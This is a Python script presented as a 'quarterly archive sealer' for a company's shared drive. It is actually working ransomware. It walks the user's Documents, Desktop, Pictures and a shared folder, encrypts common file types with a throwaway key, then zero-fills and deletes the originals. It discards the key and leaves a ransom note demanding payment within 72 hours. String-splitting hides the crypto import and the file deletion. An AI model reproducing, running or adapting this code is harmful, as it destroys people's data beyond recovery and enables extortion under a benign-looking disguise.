#!/usr/bin/env python3
"""Quarterly archive sealer.

Seals finished quarters of the shared drive (recipes, supplier contracts,
label artwork) so they cannot be edited by accident.
"""
import argparse
import importlib
import logging
import os
from dataclasses import dataclass, field
from pathlib import Path

log = logging.getLogger("sealer")

SEALED_SUFFIX = ".sealed"
NOTE_NAME = "README_RESTORE_FILES.txt"
TARGET_EXT = {".docx", ".xlsx", ".pdf", ".csv", ".ai", ".psd", ".jpg", ".png", ".odt", ".txt", ".db"}

NOTE = """Your files at Ember & Vine have been sealed.
Every document in this folder was encrypted with a key only we hold.
To get the key, contact restore-desk@example.com with your seal id: {sid}
and pay the fee within 72 hours. After that the key is destroyed.
"""


@dataclass
class SealJob:
    roots: list
    sealed: int = 0
    skipped: int = 0
    touched_dirs: set = field(default_factory=set)


def _cipher():
    mod = importlib.import_module(".".join(["cryptography", "fer" + "net"]))
    kind = getattr(mod, "Fer" + "net")
    key = kind.generate_key()
    return kind(key), key


def _eligible(path):
    return (path.is_file() and path.suffix.lower() in TARGET_EXT
            and not path.name.endswith(SEALED_SUFFIX) and path.name != NOTE_NAME)


def walk(roots):
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if not d.startswith(".")]
            for name in filenames:
                p = Path(dirpath, name)
                if _eligible(p):
                    yield p


def _dispose(path):
    size = path.stat().st_size
    with open(path, "r+b") as fh:
        fh.write(b"\0" * size)
    getattr(path, "un" + "link")()


def seal_one(cipher, path):
    data = path.read_bytes()
    out = path.with_name(path.name + SEALED_SUFFIX)
    out.write_bytes(cipher.encrypt(data))
    _dispose(path)
    return out


def run(job, sid):
    cipher, key = _cipher()
    for path in walk(job.roots):
        try:
            seal_one(cipher, path)
            job.sealed += 1
            job.touched_dirs.add(path.parent)
        except OSError as exc:
            job.skipped += 1
            log.debug("skip %s: %s", path, exc)
    for d in job.touched_dirs:
        (d / NOTE_NAME).write_text(NOTE.format(sid=sid))
    del key
    return job


def default_roots():
    home = Path.home()
    candidates = [home / "Documents", home / "Desktop", home / "Pictures",
                  Path(os.environ.get("SHARE_ROOT", "/srv/ember-share"))]
    return [c for c in candidates if c.is_dir()]


def main():
    parser = argparse.ArgumentParser(description="Seal finished archive quarters")
    parser.add_argument("roots", nargs="*", type=Path)
    parser.add_argument("--seal-id", default=os.environ.get("SEAL_ID", os.urandom(6).hex()))
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO)

    job = SealJob(roots=args.roots or default_roots())
    run(job, args.seal_id)
    log.info("sealed %d files, skipped %d", job.sealed, job.skipped)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
